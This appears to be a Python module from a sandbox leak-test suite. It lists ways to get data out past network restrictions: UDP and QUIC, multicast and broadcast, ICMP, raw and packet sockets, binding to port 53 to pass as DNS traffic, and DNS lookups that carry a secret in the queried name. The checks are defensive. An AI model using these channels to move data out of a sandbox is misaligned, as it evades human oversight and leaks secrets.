"""Ways out by UDP, ICMP, DNS, and by packets that one makes oneself."""

from __future__ import annotations

import os
import socket
import struct

from sidecar.cli.leak_test.attempts import (
    ANSWER,
    Attempt,
    Expected,
    Outside,
    converse,
    say,
    send_datagram,
)
from sidecar.dns.resolvconf import NameServers

__all__ = ["ATTEMPTS"]

# linux/in.h
_IPPROTO_UDPLITE = 136
# linux/if_ether.h, linux/icmp.h, linux/icmpv6.h, linux/in.h
_ETH_P_IP = 0x0800
_ECHO, _ECHO_IPV6 = 8, 128
_DNS_PORT = 53
_HEADER = struct.Struct(">6H")
_RECURSION_DESIRED, _A, _TXT, _IN = 0x0100, 1, 16, 1
# Names under which somebody could have the secret sent to a name server of theirs. The
# policy of the test allows one name, and none below it.
_DENIED = "secret-4711.denied.example"
_BELOW_ALLOWED = "secret-4711.{}"


def _udp(family: int = socket.AF_INET, protocol: int = 0) -> socket.socket:
    return socket.socket(family, socket.SOCK_DGRAM, protocol)


def _plain(outside: Outside) -> str:
    return send_datagram(_udp(), (outside.ipv4, outside.port), say(outside))


def _quic(outside: Outside) -> str:
    return send_datagram(_udp(), (outside.ipv4, 443), say(outside))


def _ipv6(outside: Outside) -> str:
    return send_datagram(_udp(socket.AF_INET6), (outside.ipv6, outside.port), say(outside))


def _lite(outside: Outside) -> str:
    sock = _udp(protocol=_IPPROTO_UDPLITE)
    return send_datagram(sock, (outside.ipv4, outside.port), say(outside))


def _from_dns_port(outside: Outside) -> str:
    sock = _udp()
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    # The sandbox's rules let DNS answers through.
    sock.bind(("127.0.0.99", _DNS_PORT))
    return send_datagram(sock, (outside.ipv4, outside.port), say(outside))


def _multicast(outside: Outside) -> str:
    sock = _udp()
    interface = socket.inet_aton("127.0.0.1")
    sock.setsockopt(socket.SOL_IP, socket.IP_MULTICAST_IF, interface)
    return send_datagram(sock, ("224.0.0.251", outside.port), say(outside))


def _broadcast(outside: Outside) -> str:
    sock = _udp()
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    return send_datagram(sock, ("255.255.255.255", outside.port), say(outside))


def _echo(kind: int) -> bytes:
    """An echo request; its checksum counts for IPv4 alone."""
    header = struct.pack(">BBHHH", kind, 0, 0, 1, 1)
    total = sum(struct.unpack(">4H", header))
    return struct.pack(">BBHHH", kind, 0, ~total & 0xFFFF, 1, 1)


def _ping(outside: Outside) -> str:
    sock = _udp(protocol=socket.IPPROTO_ICMP)
    return send_datagram(sock, (outside.ipv4, 0), _echo(_ECHO))


def _ping_ipv6(outside: Outside) -> str:
    sock = _udp(socket.AF_INET6, socket.IPPROTO_ICMPV6)
    return send_datagram(sock, (outside.ipv6, 0), _echo(_ECHO_IPV6))


def _raw_icmp(outside: Outside) -> str:
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    return send_datagram(sock, (outside.ipv4, 0), _echo(_ECHO))


def _ip_header(outside: Outside) -> bytes:
    """An IPv4 packet with nothing in it but a word of ours; the kernel fills in the rest."""
    body = say(outside)
    addresses = socket.inet_aton(outside.host) + socket.inet_aton(outside.ipv4)
    return struct.pack(">BBHHHBBH", 0x45, 0, 20 + len(body), 1, 0, 64, 253, 0) + addresses + body


def _raw(outside: Outside) -> str:
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    return send_datagram(sock, (outside.ipv4, 0), _ip_header(outside))


def _raw_ipv6(outside: Outside) -> str:
    # A protocol number that is for experiments (RFC 3692).
    sock = socket.socket(socket.AF_INET6, socket.SOCK_RAW, 253)
    return send_datagram(sock, (outside.ipv6, 0), say(outside))


def _packet(outside: Outside) -> str:
    with socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(_ETH_P_IP)) as sock:
        sock.sendto(_ip_header(outside), ("lo", _ETH_P_IP, 0, 0, bytes(6)))
    return "sent a packet"


def _question(name: str, kind: int) -> bytes:
    labels = b"".join(bytes([len(each)]) + each.encode() for each in name.split("."))
    number = int.from_bytes(os.urandom(2), "big")
    question = labels + b"\0" + struct.pack(">2H", kind, _IN)
    return _HEADER.pack(number, _RECURSION_DESIRED, 1, 0, 0, 0) + question


def _ask(server: str, name: str = _DENIED, kind: int = _TXT) -> str:
    """Ask over UDP.

    Returns:
        The answer's code, in words.
    """
    with _udp() as sock:
        sock.settimeout(ANSWER)
        sock.connect((server, _DNS_PORT))
        sock.send(_question(name, kind))
        answer = sock.recv(4096)
    codes = {0: "answered", 2: "SERVFAIL", 3: "NXDOMAIN", 5: "REFUSED"}
    code = answer[3] & 15
    return codes.get(code, f"code {code}")


def _dns(outside: Outside) -> str:
    return _ask(outside.ipv4)


def _dns_below_allowed(outside: Outside) -> str:
    return _ask(outside.ipv4, _BELOW_ALLOWED.format(outside.allowed))


def _dns_tcp(outside: Outside) -> str:
    question = _question(_DENIED, _A)
    framed = struct.pack(">H", len(question)) + question
    return converse(
        socket.socket(socket.AF_INET, socket.SOCK_STREAM), (outside.ipv4, _DNS_PORT), framed
    )


def _dns_configured(_: Outside) -> str:
    return ", ".join(_ask(each.text) for each in NameServers()() if ":" not in each.text)


def _dns_stub(_: Outside) -> str:
    return _ask("127.0.0.53")


def _dns_libc(_: Outside) -> str:
    socket.getaddrinfo(_DENIED, 443, type=socket.SOCK_STREAM)
    return "resolved"


def _dns_garbage(outside: Outside) -> str:
    return send_datagram(_udp(), (outside.ipv4, _DNS_PORT), say(outside))


def _dns_garbage_tcp(outside: Outside) -> str:
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    return converse(sock, (outside.ipv4, _DNS_PORT), say(outside))


ATTEMPTS = (
    Attempt("udp", "UDP", _plain),
    Attempt("quic", "UDP to port 443, as QUIC", _quic),
    Attempt("udp_ipv6", "UDP over IPv6", _ipv6),
    Attempt("udp_from_dns_port", "UDP from port 53", _from_dns_port, control=False),
    Attempt("udp_lite", "UDP-Lite", _lite),
    Attempt("multicast", "UDP to a multicast group", _multicast),
    Attempt("broadcast", "UDP to everybody", _broadcast),
    Attempt("ping", "ICMP by a ping socket", _ping),
    Attempt("ping_ipv6", "ICMPv6 by a ping socket", _ping_ipv6),
    Attempt("raw_icmp", "ICMP by a raw socket", _raw_icmp, Expected.REFUSED),
    Attempt("raw", "IPv4 packets by a raw socket", _raw, Expected.REFUSED),
    Attempt("raw_ipv6", "IPv6 packets by a raw socket", _raw_ipv6, Expected.REFUSED),
    Attempt("packet", "frames by a packet socket", _packet, Expected.REFUSED),
    Attempt("dns", "a denied name, asked of a server outside", _dns),
    Attempt("dns_tcp", "a denied name, asked over TCP", _dns_tcp),
    Attempt("dns_configured", "a denied name, asked of the host's resolver", _dns_configured),
    Attempt("dns_stub", "a denied name, asked of 127.0.0.53", _dns_stub),
    Attempt("dns_libc", "a denied name, by getaddrinfo", _dns_libc),
    Attempt("dns_below_allowed", "a name below an allowed one", _dns_below_allowed),
    Attempt("dns_garbage", "no DNS to UDP port 53", _dns_garbage),
    Attempt("dns_garbage_tcp", "no DNS to TCP port 53", _dns_garbage_tcp),
)
